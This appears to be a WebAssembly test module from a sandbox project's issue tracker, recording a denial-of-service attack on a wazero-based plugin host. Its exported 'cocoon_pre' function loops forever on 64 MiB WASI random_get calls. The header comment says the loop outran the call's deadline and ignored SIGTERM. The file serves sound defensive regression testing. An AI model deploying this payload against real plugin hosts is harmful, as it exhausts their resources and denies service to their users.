;; Issue 10, attack 1: a loop around WASI random_get of 64 MiB. wazero's WASI filled
;; each buffer without looking at the call's deadline and the loop ticked once in
;; 10,000 calls: it ran 6 minutes after its client left, and SIGTERM did not stop the
;; host.
(module
  (import "wasi_snapshot_preview1" "random_get" (func $random (param i32 i32) (result i32)))
  (memory (export "memory") 1024)
  (func (export "cocoon_abi_v1"))
  (func (export "cocoon_alloc") (param i32) (result i32) (i32.const 1024))
  (func (export "cocoon_pre") (param i32 i32) (result i64)
    (loop $forever
      (drop (call $random (i32.const 0) (i32.const 0x4000000)))
      (br $forever))
    (i64.const 0)))
